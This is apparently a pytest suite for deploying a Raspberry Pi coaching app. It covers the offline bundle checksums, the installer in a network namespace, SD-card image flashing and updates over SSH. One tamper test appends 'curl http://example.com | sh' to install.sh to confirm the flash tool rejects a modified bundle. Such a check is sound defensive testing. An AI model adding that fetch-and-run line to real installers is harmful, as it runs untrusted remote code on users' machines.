"""The offline bundle, the SD-card image, the installer and updates over SSH, with the real tools:
pip (offline, in a network namespace of its own), sfdisk/mkfs/mtools/debugfs on image files made
here like Raspberry Pi OS's (FAT boot + ext4 root), loop devices for the card, Debian's sshd on
loopback, systemd-sysusers/systemctl --root/systemd-analyze verify on the installed tree.

The bundle is built for this machine (x86_64): the aarch64 wheelhouse is `make wheelhouse`'s job,
not the tests'. The only fake is `systemctl` on the SSH server's PATH in the deploy test, since no
systemd runs in this container (see FAKE_SYSTEMCTL)."""

import getpass
import hashlib
import json
import os
import shutil
import socket
import subprocess
import sys
import time
from pathlib import Path

import pytest
import yaml

from .conftest import REPO

PY = sys.executable
SECTOR = 512
BOOT_START = 8192  # 4 MiB, as Raspberry Pi OS
CMDLINE = ("console=serial0,115200 console=tty1 root=PARTUUID=4e639091-02 rootfstype=ext4 fsck.repair=yes rootwait "
           "quiet init=/usr/lib/raspberrypi-sys-mods/firstboot\n")
CONFIG_TXT = ("# For more options and information see http://rptl.io/configtxt\ndtparam=audio=on\ncamera_auto_detect=1\n"
              "display_auto_detect=1\nauto_initramfs=1\ndtoverlay=vc4-kms-v3d\nmax_framebuffers=2\narm_64bit=1\n\n"
              "[cm4]\notg_mode=1\n\n[all]\n")


def sh(*cmd, check=True, **kw) -> subprocess.CompletedProcess:
    out = subprocess.run([str(c) for c in cmd], capture_output=True, text=True, **kw)
    if check and out.returncode != 0:
        raise AssertionError(f"{cmd} failed ({out.returncode}):\n{out.stdout[-3000:]}\n{out.stderr[-3000:]}")
    return out


def sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


@pytest.fixture(scope="session")
def bundle(tmp_path_factory) -> Path:
    """A bundle for this machine, from the host wheelhouse cached in .cache/ (downloaded once)."""
    sh(PY, "-m", "deploy.wheelhouse", "--platform", "host", cwd=REPO)
    out = tmp_path_factory.mktemp("bundle") / "bundle"
    wheelhouse = REPO / ".cache" / "wheelhouse" / os.uname().machine
    sh(PY, "-m", "deploy.bundle", "--wheelhouse", wheelhouse, "--out", out, cwd=REPO)
    return out


def copy_bundle(bundle: Path, dest: Path) -> Path:
    """A copy made of hard links (fast); change files by replacing them, never in place."""
    sh("cp", "-al", bundle, dest)
    return dest


def replace(path: Path, data: bytes) -> None:
    path.unlink()
    path.write_bytes(data)


# --- the bundle -------------------------------------------------------------------------------

def test_bundle_holds_everything_and_every_checksum(bundle):
    info = json.loads((bundle / "BUNDLE.json").read_text())
    assert info["machine"] == os.uname().machine and info["python"] == "3.11"
    wheels = {p.name.split("-")[0].lower() for p in (bundle / "wheels").glob("*.whl")}
    assert {"pi_coach", "mediapipe", "numpy", "ai_edge_litert", "luma_oled", "gpiozero"} <= wheels
    reqs = (bundle / "requirements.txt").read_text().splitlines()
    assert "pi-coach[pi]==" + info["version"] in reqs and "mediapipe==0.10.18" in reqs
    for rel in ("install.sh", "models/moves.tflite", "rules/ballet/arabesque.toml", "systemd/pi-coach.service",
                "systemd/pi-coach.sysusers.conf", "config/config.toml"):
        assert (bundle / rel).is_file(), rel
    listed = {line.split("  ", 1)[1] for line in (bundle / "SHA256SUMS").read_text().splitlines()}
    files = {p.relative_to(bundle).as_posix() for p in bundle.rglob("*") if p.is_file()} - {"SHA256SUMS"}
    assert listed == files
    sh("sha256sum", "--check", "--strict", "--quiet", "SHA256SUMS", cwd=bundle)


def test_the_aarch64_closure_check_finds_what_pip_skips_on_this_machine(bundle):
    """pip judges markers by the host: lgpio (aarch64 only) would be missing from a Pi wheelhouse."""
    sys.path.insert(0, str(REPO))
    from deploy.wheelhouse import missing_requirements, requirements, target_environment

    missing = missing_requirements(bundle / "wheels", requirements(), target_environment("aarch64"))
    assert [m for m in missing if m.startswith("lgpio")], missing
    assert missing_requirements(bundle / "wheels", requirements(), target_environment("host")) == []


@pytest.mark.parametrize("tamper", ["changed", "added", "removed"])
def test_installer_refuses_a_tampered_bundle_and_changes_nothing(bundle, tmp_path, tamper):
    b = copy_bundle(bundle, tmp_path / "b")
    if tamper == "changed":
        rule = b / "rules" / "ballet" / "arabesque.toml"
        replace(rule, rule.read_bytes() + b"\n# one more line\n")
    elif tamper == "added":
        (b / "wheels" / "evil-1.0-py3-none-any.whl").write_bytes(b"PK")
    else:
        next((b / "models").glob("*.json")).unlink()
    root = tmp_path / "root"
    root.mkdir()
    out = sh("bash", b / "install.sh", "--root", root, "--python", "/usr/bin/python3", check=False)
    assert out.returncode != 0
    assert "refusing to install (nothing was changed)" in out.stderr
    assert {"changed": "FAILED", "added": "not in SHA256SUMS: wheels/evil", "removed": "missing: models/"}[tamper] in out.stderr
    assert list(root.iterdir()) == []


# --- the installer, for real, offline ---------------------------------------------------------

@pytest.fixture(scope="session")
def installed(bundle, tmp_path_factory):
    """The bundle installed by its installer into a scratch root, in a network namespace with no
    network at all (unshare -n): pip, systemd-sysusers --root, systemctl --root enable."""
    if sh("unshare", "-n", "true", check=False).returncode != 0:
        pytest.fail("unshare -n is not permitted here: the offline install needs a network namespace (run as root)")
    root = tmp_path_factory.mktemp("root")
    (root / "boot" / "firmware").mkdir(parents=True)
    (root / "boot" / "firmware" / "config.txt").write_text(CONFIG_TXT)
    t0 = time.monotonic()
    out = sh("unshare", "-n", "bash", bundle / "install.sh", "--root", root, "--python", "/usr/bin/python3")
    seconds = time.monotonic() - t0
    print(f"offline install: {seconds:.0f} s")
    return root, out.stdout, seconds


def test_offline_install_gives_a_working_pi_coach(installed, bundle):
    root, log, _ = installed
    link = root / "opt" / "pi-coach"
    assert link.is_symlink() and os.readlink(link).startswith("pi-coach-releases/")
    exe = link / "bin" / "pi-coach"
    # still with no network: MediaPipe, the installed model and the installed rules on a real photo
    out = sh("unshare", "-n", exe, "analyze", REPO / "samples" / "photos" / "tree_pose.jpeg", "--json",
             "--rules", root / "etc/pi-coach/rules/current", "--model", root / "etc/pi-coach/models/current/moves.tflite", cwd=root)
    doc = json.loads(out.stdout)
    assert doc["pose_found"] and doc["move_from"] == "model", doc
    assert sh(link / "bin" / "python", "-c", "import pi_coach, mediapipe, luma.oled, gpiozero; print(pi_coach.__file__)",
              cwd=root).stdout.startswith(str(root))


def test_install_creates_user_groups_stores_config_and_i2c(installed):
    root, log, _ = installed
    passwd = (root / "etc" / "passwd").read_text()
    assert any(line.startswith("pi-coach:x:") and line.endswith(":/usr/sbin/nologin") for line in passwd.splitlines())
    groups = {line.split(":")[0]: line.split(":") for line in (root / "etc" / "group").read_text().splitlines()}
    gid = int(groups["pi-coach"][2])
    assert all("pi-coach" in groups[g][3].split(",") for g in ("video", "i2c", "gpio"))
    for store in ("rules", "models", "profiles"):
        st = (root / "etc" / "pi-coach" / store).stat()
        assert (st.st_mode & 0o7777, st.st_gid) == (0o2775, gid), store
    current = root / "etc/pi-coach/rules/current"
    assert os.readlink(current) == "sets/0001" and (current / "arabesque.toml").is_file()
    assert (root / "etc/pi-coach/rules/sets").stat().st_mode & 0o020, "instructors could not add the next set"
    assert (root / "etc/pi-coach/models/current/moves.tflite").is_file()
    assert (root / "etc/pi-coach/profiles/beginner.toml").is_file()
    assert (root / "etc/pi-coach/config.toml").read_text() == (REPO / "deploy/config.toml").read_text()
    config = (root / "boot/firmware/config.txt").read_text()
    assert config.startswith(CONFIG_TXT) and "\ndtparam=i2c_arm=on\n" in config and config.count("camera_auto_detect=1") == 1
    assert (root / "etc/modules-load.d/pi-coach.conf").read_text().strip() == "i2c-dev"
    wants = root / "etc/systemd/system/multi-user.target.wants/pi-coach.service"
    assert wants.is_symlink() and os.readlink(wants) == "/etc/systemd/system/pi-coach.service"


def test_installed_unit_verifies_against_the_installed_venv(installed, tmp_path):
    root, _, _ = installed
    unit = (root / "etc/systemd/system/pi-coach.service").read_text()
    assert unit == (REPO / "systemd/pi-coach.service").read_text()
    copy = tmp_path / "pi-coach.service"
    copy.write_text(unit.replace("/opt/pi-coach/", f"{root}/opt/pi-coach/"))
    out = sh("systemd-analyze", "verify", "--man=no", copy, check=False)
    assert out.returncode == 0 and out.stderr.strip() == "", out.stderr


def test_reinstall_keeps_the_instructors_config_and_rules(installed, bundle):
    root, _, first = installed
    config = root / "etc/pi-coach/config.toml"
    config.write_text(config.read_text().replace('driver = "ssd1306"', 'driver = "sh1106"'))
    t0 = time.monotonic()
    out = sh("unshare", "-n", "bash", bundle / "install.sh", "--root", root, "--python", "/usr/bin/python3")
    assert "already installed: reusing it" in out.stdout and "kept the live rule set" in out.stdout
    assert 'driver = "sh1106"' in config.read_text()
    assert os.readlink(root / "etc/pi-coach/rules/current") == "sets/0001"
    assert time.monotonic() - t0 < first


def test_installer_refuses_another_python(bundle, tmp_path):
    fake = tmp_path / "python3"
    fake.write_text('#!/bin/bash\ncase "$*" in *version_info*) echo 3.13 ;; *) exec /usr/bin/python3 "$@" ;; esac\n')
    fake.chmod(0o755)
    out = sh("bash", bundle / "install.sh", "--root", tmp_path, "--python", fake, check=False)
    assert out.returncode != 0 and "this bundle is for Python 3.11; " in out.stderr


# --- the SD-card image ------------------------------------------------------------------------

def make_image(path: Path, boot_mb: int = 480, machine: str = os.uname().machine, python: str = "3.11",
               root_files: dict | None = None) -> Path:
    """A small Raspberry Pi OS-like disk image: MBR, FAT32 "bootfs" with cmdline.txt and config.txt,
    ext4 "rootfs" with /usr/bin/python3.11 and the architecture's library folder."""
    boot_sectors = boot_mb * 2048
    root_start, root_sectors = BOOT_START + boot_sectors, 24 * 2048
    with open(path, "wb") as f:
        f.truncate((root_start + root_sectors) * SECTOR)
    table = f"label: dos\nstart={BOOT_START}, size={boot_sectors}, type=c\nstart={root_start}, size={root_sectors}, type=83\n"
    sh("sfdisk", "-q", path, input=table)
    sh("mkfs.vfat", "-F", "32", "-n", "bootfs", "--offset", BOOT_START, path, boot_mb * 1024)
    tree = path.parent / (path.name + ".root")
    files = {f"usr/bin/python{python}": "", f"usr/lib/{machine}-linux-gnu/.keep": "", "etc/hostname": "raspberrypi\n"}
    files.update(root_files or {})
    for rel, text in files.items():
        (tree / rel).parent.mkdir(parents=True, exist_ok=True)
        (tree / rel).write_text(text)
    sh("mkfs.ext4", "-q", "-L", "rootfs", "-d", tree, "-E", f"offset={root_start * SECTOR}", path, f"{root_sectors // 2}k")
    shutil.rmtree(tree)
    for name, text in (("cmdline.txt", CMDLINE), ("config.txt", CONFIG_TXT)):
        (path.parent / name).write_text(text)
        sh("mcopy", "-i", f"{path}@@{BOOT_START * SECTOR}", path.parent / name, f"::/{name}")
    return path


def fat(img: Path) -> str:
    return f"{img}@@{BOOT_START * SECTOR}"


def mtype(img: Path, name: str) -> str:
    return sh("mtype", "-i", fat(img), f"::/{name}").stdout


@pytest.fixture(scope="module")
def ssh_key(tmp_path_factory) -> Path:
    key = tmp_path_factory.mktemp("key") / "id_ed25519"
    sh("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", "instructor@laptop", "-f", key)
    return key


def flash(*args, check=False):
    return sh(PY, "-m", "deploy.flash", *args, cwd=REPO, check=check)


def test_flash_makes_a_first_boot_image_and_keeps_the_original(bundle, ssh_key, tmp_path):
    base = make_image(tmp_path / "raspios.img")
    before = sha(base)
    sh("xz", "-0", "-T2", "-k", base)
    out = tmp_path / "coach-7.img"
    res = flash("--image", f"{base}.xz", "--bundle", bundle, "--out", out, "--hostname", "coach-7",
                "--ssh-key", f"{ssh_key}.pub", check=True)
    assert "first boot by firstrun" in res.stdout and "Wi-Fi off" in res.stdout
    assert sha(base) == before
    listing = sh("mdir", "-b", "-i", fat(out), "::/").stdout
    for name in ("cmdline.txt", "config.txt", "firstrun.sh", "pi-coach-firstboot.conf", "pi-coach-bundle"):
        assert f"::/{name}" in listing, listing
    assert "user-data" not in listing  # no cloud-init in this image's root
    cmdline = mtype(out, "cmdline.txt")
    assert cmdline.count("\n") == 1 and cmdline.startswith(CMDLINE.strip() + " ")
    assert cmdline.strip().endswith("systemd.run=/boot/firmware/firstrun.sh systemd.run_success_action=reboot "
                                     "systemd.unit=kernel-command-line.target")
    assert mtype(out, "config.txt").startswith(CONFIG_TXT) and "dtoverlay=disable-wifi" in mtype(out, "config.txt")
    conf = mtype(out, "pi-coach-firstboot.conf")
    key = Path(f"{ssh_key}.pub").read_text().strip()
    assert "PI_COACH_HOSTNAME=coach-7\n" in conf and f"PI_COACH_SSH_KEY='{key}'" in conf and "PI_COACH_USER=coach" in conf
    assert mtype(out, "firstrun.sh") == (REPO / "deploy/firstrun.sh").read_text()
    # every file of the bundle, read back off the image, matches
    back = tmp_path / "back"
    sh("mcopy", "-s", "-i", fat(out), "::/pi-coach-bundle", back)
    sh("sha256sum", "--check", "--strict", "--quiet", "SHA256SUMS", cwd=back)
    assert mtype(out, "pi-coach-bundle/SHA256SUMS") == (bundle / "SHA256SUMS").read_text()
    # the root file system is as it was
    root_off = int(json.loads(sh("sfdisk", "--json", out).stdout)["partitiontable"]["partitions"][1]["start"]) * SECTOR
    assert "python3.11" in sh("debugfs", "-R", "ls /usr/bin", f"{out}?offset={root_off}").stdout


def test_flash_for_a_cloud_init_image_writes_user_data(bundle, ssh_key, tmp_path):
    base = make_image(tmp_path / "raspios.img", root_files={"usr/bin/cloud-init": "#!/bin/sh\n"})
    out = tmp_path / "coach-8.img"
    flash("--image", base, "--bundle", bundle, "--out", out, "--hostname", "coach-8", "--ssh-key", f"{ssh_key}.pub",
          "--wifi-ssid", "Studio", "--wifi-password", "pliés and tendus", check=True)
    assert mtype(out, "cmdline.txt") == CMDLINE
    user_data = mtype(out, "user-data")
    assert user_data.startswith("#cloud-config\n")
    doc = yaml.safe_load(user_data)
    assert doc["hostname"] == "coach-8" and doc["ssh_pwauth"] is False
    assert doc["users"][0]["lock_passwd"] is True and doc["users"][0]["ssh_authorized_keys"] == [Path(f"{ssh_key}.pub").read_text().strip()]
    assert doc["runcmd"] == [["bash", "/boot/firmware/firstrun.sh", "--cloud-init"]]
    net = yaml.safe_load(mtype(out, "network-config"))["network"]
    assert net["wifis"]["wlan0"]["access-points"] == {"Studio": {"password": "pliés and tendus"}}
    assert yaml.safe_load(mtype(out, "meta-data"))["local-hostname"] == "coach-8"
    assert "disable-wifi" not in mtype(out, "config.txt")


def test_flash_refuses_wrong_images_and_leaves_nothing(bundle, ssh_key, tmp_path):
    key = f"{ssh_key}.pub"
    junk = tmp_path / "notes.img"
    junk.write_bytes(os.urandom(1 << 20))
    other = "x86_64" if os.uname().machine == "aarch64" else "aarch64"
    arm = make_image(tmp_path / "other.img", boot_mb=64, machine=other)
    small = make_image(tmp_path / "small.img", boot_mb=64)
    trixie = make_image(tmp_path / "trixie.img", boot_mb=64, python="3.13")
    cases = {
        tmp_path / "missing.img": "no such file",
        junk: "no partition table: not a Raspberry Pi OS image",
        small: "the boot partition has",
        trixie: "has no Python 3.11",
        arm: f"the bundle is for {os.uname().machine}",  # an image for another machine than the bundle's
    }
    for image, message in cases.items():
        out = tmp_path / "out.img"
        res = flash("--image", image, "--bundle", bundle, "--out", out, "--ssh-key", key)
        assert res.returncode == 1 and message in res.stderr, (image, res.stderr)
        assert not out.exists(), image
    res = flash("--image", small, "--bundle", bundle, "--out", small, "--ssh-key", key)
    assert res.returncode == 1 and "is IMAGE itself" in res.stderr
    res = flash("--image", small, "--bundle", bundle, "--out", tmp_path / "o.img", "--ssh-key", key, "--hostname", "Coach_1")
    assert res.returncode == 1 and "hostname 'Coach_1'" in res.stderr
    tampered = copy_bundle(bundle, tmp_path / "tampered")
    replace(tampered / "install.sh", (bundle / "install.sh").read_bytes() + b"curl http://example.com | sh\n")
    big = make_image(tmp_path / "big.img")
    res = flash("--image", big, "--bundle", tampered, "--out", tmp_path / "o.img", "--ssh-key", key)
    assert res.returncode == 1 and "changed: install.sh" in res.stderr and not (tmp_path / "o.img").exists()


# --- writing the card (loop devices stand in for the SD card reader) --------------------------

@pytest.fixture
def loop(tmp_path):
    made = []

    def attach(size: int, name: str = "card") -> Path:
        backing = tmp_path / f"{name}.bin"
        with open(backing, "wb") as f:
            f.truncate(size)
        out = sh("losetup", "--find", "--show", backing, check=False)
        if out.returncode != 0:
            pytest.skip(f"no loop devices here ({out.stderr.strip()}): the card-writing checks need one")
        made.append(out.stdout.strip())
        return Path(out.stdout.strip())

    yield attach
    for dev in made:
        subprocess.run(["umount", dev], capture_output=True)
        subprocess.run(["losetup", "-d", dev], capture_output=True)


def test_flash_writes_the_card_and_reads_it_back(bundle, ssh_key, tmp_path, loop):
    base = make_image(tmp_path / "raspios.img")
    card = loop(1 << 30)
    res = flash("--image", base, "--bundle", bundle, "--device", card, "--hostname", "coach-9",
                "--ssh-key", f"{ssh_key}.pub", check=True)
    assert "written and read back" in res.stdout
    backing = tmp_path / "card.bin"
    sh("sync")
    assert "PI_COACH_HOSTNAME=coach-9" in mtype(backing, "pi-coach-firstboot.conf")
    assert "systemd.run=/boot/firmware/firstrun.sh" in mtype(backing, "cmdline.txt")


def test_flash_refuses_mounted_system_and_oversized_devices(bundle, ssh_key, tmp_path, loop):
    base = make_image(tmp_path / "raspios.img", boot_mb=64)
    args = ["--image", base, "--bundle", bundle, "--ssh-key", f"{ssh_key}.pub"]
    # mounted: a card with a file system the kernel has mounted
    card = loop(64 << 20, "mounted")
    sh("mkfs.ext4", "-q", card)
    mnt = tmp_path / "mnt"
    mnt.mkdir()
    if sh("mount", card, mnt, check=False).returncode != 0:
        pytest.skip("cannot mount here")
    try:
        res = flash(*args, "--device", card)
        assert res.returncode == 1 and f"is mounted ({mnt})" in res.stderr
    finally:
        sh("umount", mnt)
    # the system disk (whatever holds /)
    source = sh("findmnt", "-n", "-o", "SOURCE", "/").stdout.strip()
    if source.startswith("/dev/"):
        disk = sh("lsblk", "-n", "-d", "-o", "PKNAME", source, check=False).stdout.strip()
        res = flash(*args, "--device", f"/dev/{disk}" if disk else source)
        assert res.returncode == 1 and ("is the system disk" in res.stderr or "is mounted" in res.stderr), res.stderr
    # bigger than an SD card: refused unless forced (a sparse 300 GiB loop device; nothing is written)
    huge = loop(300 << 30, "huge")
    res = flash(*args, "--device", huge)
    assert res.returncode == 1 and "bigger than an SD card" in res.stderr and "FORCE=1" in res.stderr
    # a partition or a plain file is not a card
    res = flash(*args, "--device", tmp_path / "mounted.bin")
    assert res.returncode == 1 and "not a block device" in res.stderr
    assert sh("cmp", "-n", 1 << 20, huge, "/dev/zero", check=False).returncode == 0  # still blank


# --- updating a running box over SSH ----------------------------------------------------------

# Stands in for systemctl on the SSH server's PATH only: no systemd runs in this container. Calls on
# a file tree (--root=..., the installer's `enable`) go to the real systemctl; `restart` and
# `is-active` are recorded and answered as a Type=notify unit would (restart returns; then active).
FAKE_SYSTEMCTL = """#!/bin/bash
set -euo pipefail
for arg in "$@"; do case "$arg" in --root=*) exec /usr/bin/systemctl "$@" ;; esac; done
echo "$*" >>"$FAKE_SYSTEMD_DIR/calls"
case "$1" in
    restart) touch "$FAKE_SYSTEMD_DIR/active" ;;
    is-active) if [ -e "$FAKE_SYSTEMD_DIR/active" ]; then echo active; else echo inactive; exit 3; fi ;;
esac
"""


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


@pytest.fixture
def sshd(tmp_path, ssh_key):
    """Debian's OpenSSH server on 127.0.0.1, a temporary host key, only the test key authorised."""
    sshd_bin = shutil.which("sshd") or "/usr/sbin/sshd"
    d = tmp_path / "sshd"
    (d / "bin").mkdir(parents=True)
    sh("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", d / "host_key")
    shutil.copy(f"{ssh_key}.pub", d / "authorized_keys")
    (d / "bin" / "systemctl").write_text(FAKE_SYSTEMCTL)
    (d / "bin" / "systemctl").chmod(0o755)
    port = free_port()
    (d / "sshd_config").write_text(
        f"Port {port}\nListenAddress 127.0.0.1\nHostKey {d}/host_key\nAuthorizedKeysFile {d}/authorized_keys\n"
        f"PidFile {d}/sshd.pid\nPasswordAuthentication no\nKbdInteractiveAuthentication no\nPermitRootLogin prohibit-password\n"
        f"UsePAM no\nStrictModes no\nSetEnv PATH={d}/bin:/usr/local/bin:/usr/bin:/bin:/usr/sbin:/sbin FAKE_SYSTEMD_DIR={d}\n")
    Path("/run/sshd").mkdir(exist_ok=True)  # sshd's privilege separation directory
    log = open(d / "sshd.log", "wb")
    proc = subprocess.Popen([sshd_bin, "-D", "-e", "-f", d / "sshd_config"], stdout=log, stderr=subprocess.STDOUT)
    for _ in range(100):
        with socket.socket() as s:
            if s.connect_ex(("127.0.0.1", port)) == 0:
                break
        time.sleep(0.05)
    ssh_opts = (f"-p {port} -i {ssh_key} -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR")
    yield {"host": f"{getpass.getuser()}@127.0.0.1", "opts": ssh_opts, "dir": d}
    proc.terminate()
    proc.wait(5)
    log.close()


def make_deploy(bundle, sshd, remote_root, check=True):
    env = dict(os.environ, SSH_OPTS=sshd["opts"], REMOTE_ROOT=str(remote_root))
    wheelhouse = REPO / ".cache" / "wheelhouse" / os.uname().machine
    # -o: the venv running this test is taken as it is (make does not reinstall it mid-run)
    return sh("make", "-s", "-o", ".venv/.installed", "deploy", f"HOST={sshd['host']}", f"BUNDLE={bundle}", "PLATFORM=host",
              f"WHEELHOUSE={wheelhouse}", cwd=REPO, env=env, check=check)


def test_make_deploy_updates_a_box_over_ssh(bundle, sshd, tmp_path):
    remote_root = tmp_path / "box"
    remote_root.mkdir()
    t0 = time.monotonic()
    res = make_deploy(bundle, sshd, remote_root)
    print(f"make deploy: {time.monotonic() - t0:.0f} s")
    assert "pi-coach on " + sshd["host"] + " is active" in res.stdout, res.stdout
    assert "pi-coach: not running" in res.stdout  # `pi-coach status` reported: no real service behind the fake
    calls = (sshd["dir"] / "calls").read_text().splitlines()
    assert calls == ["restart pi-coach.service", "is-active pi-coach.service"]
    assert (remote_root / "opt/pi-coach/bin/pi-coach").exists()
    assert sh(remote_root / "opt/pi-coach/bin/pi-coach", "--version").stdout.strip().startswith("pi-coach ")
    assert not list(Path("/var/tmp").glob(f"pi-coach-bundle-{sha(bundle / 'SHA256SUMS')[:12]}*"))


def test_make_deploy_refuses_a_tampered_bundle_before_copying(bundle, sshd, tmp_path):
    tampered = copy_bundle(bundle, tmp_path / "tampered")
    replace(tampered / "requirements.txt", b"requests\n")
    remote_root = tmp_path / "box"
    remote_root.mkdir()
    env = dict(os.environ, SSH_OPTS=sshd["opts"], REMOTE_ROOT=str(remote_root))
    res = sh("bash", "deploy/deploy.sh", sshd["host"], tampered, cwd=REPO, env=env, check=False)
    assert res.returncode == 1 and "does not match its SHA256SUMS" in res.stderr
    assert list(remote_root.iterdir()) == [] and not (sshd["dir"] / "calls").exists()


def test_fleet_playbook_passes_ansible_syntax_check():
    """ansible-playbook --syntax-check (ansible-core from `make test`'s .cache/ansible venv)."""
    ansible = REPO / ".cache" / "ansible" / "bin" / "ansible-playbook"
    if not ansible.exists():
        pytest.fail("ansible-core is not installed: make .cache/ansible/bin/ansible-playbook")
    play = REPO / "deploy" / "ansible" / "pi-coach.yml"
    inv = REPO / "deploy" / "ansible" / "inventory.example.ini"
    out = sh(ansible, "--syntax-check", "-i", inv, play)
    assert "playbook: " in out.stdout
    tasks = sh(ansible, "--list-tasks", "-i", inv, play).stdout
    assert "Run the bundle's installer" in tasks and "Restart pi-coach" in tasks
    doc = yaml.safe_load(play.read_text())
    assert any("install.sh" in str(t.get("ansible.builtin.command", "")) for t in doc[0]["tasks"])


def test_shell_scripts_pass_shellcheck():
    scripts = [REPO / "deploy" / name for name in ("install.sh", "firstrun.sh", "deploy.sh")]
    out = sh("shellcheck", *scripts, check=False)
    assert out.returncode == 0, out.stdout
